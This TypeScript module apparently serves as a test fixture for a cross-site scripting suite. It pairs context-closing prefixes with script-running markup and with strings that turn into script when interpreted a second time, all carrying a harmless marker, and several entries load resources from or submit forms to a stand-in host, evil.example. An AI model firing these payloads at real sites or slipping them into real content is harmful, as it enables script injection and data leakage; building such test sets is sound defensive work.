/**
 * What a script does when it runs, wherever that is: in the page, in a frame of it, or in a window it opened.
 */
const hit = 'top.__pwned=1'

/** Prefixes that close the context of a text: an attribute, a text-only element, a comment, a string. */
const leaving = [
  '',
  '"',
  "'",
  '">',
  "'>",
  '`',
  '</title>',
  '</textarea>',
  '</style>',
  '</script>',
  '-->',
  ']]>',
  '</svg>',
  '</a>',
  '\\">',
]

/** Markup that runs a script by itself or on interaction. */
const running = [
  `<script>${hit}</script>`,
  `<img src=x onerror=${hit}>`,
  `<svg onload=${hit}>`,
  `<svg><animate onbegin=${hit} attributeName=x dur=1s>`,
  `<iframe srcdoc="<script>${hit}</script>"></iframe>`,
  `<iframe src="javascript:${hit}"></iframe>`,
  `<details open ontoggle=${hit}>`,
  `<a href="javascript:${hit}" autofocus onfocus=${hit}>x</a>`,
  `<math><mtext></table><mglyph><style><img src=x onerror=${hit}>`,
  `<object data="javascript:${hit}"></object>`,
  ` autofocus onfocus=${hit} x=`,
  `<base href=//evil.example/>`,
  `<style>@import '//evil.example/x'; *{background:url(//evil.example/y)}</style>`,
  `<form action=//evil.example/><button formaction="javascript:${hit}">x</button>`,
]

/** Texts without markup that become a script when they are interpreted a second time. */
const readAgain = [
  `javascript:${hit}`,
  `data:text/html,<script>${hit}</script>`,
  `[x](javascript:${hit})`,
  `{{constructor.constructor('${hit}')()}}`,
  `\${${hit}}`,
  `&lt;script&gt;${hit}&lt;/script&gt;`,
  `\\u003cscript\\u003e${hit}\\u003c/script\\u003e`,
  `%3Cscript%3E${hit}%3C/script%3E`,
  `＜script＞${hit}＜/script＞`,
  `]});${hit};({[`,
  `';${hit};'`,
  `\u2028${hit}\u2028`,
  `__proto__`,
  `<!--<script>-->${hit}<!--</script>-->`,
  `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${hit}</x:script>`,
]

/** All hostile texts, in groups: a field long enough for a group is attacked by all its texts at once. */
export const hostileTexts: readonly string[][] = [
  ...leaving.map((before) => running.map((text) => `${before}${text}`)),
  readAgain,
]
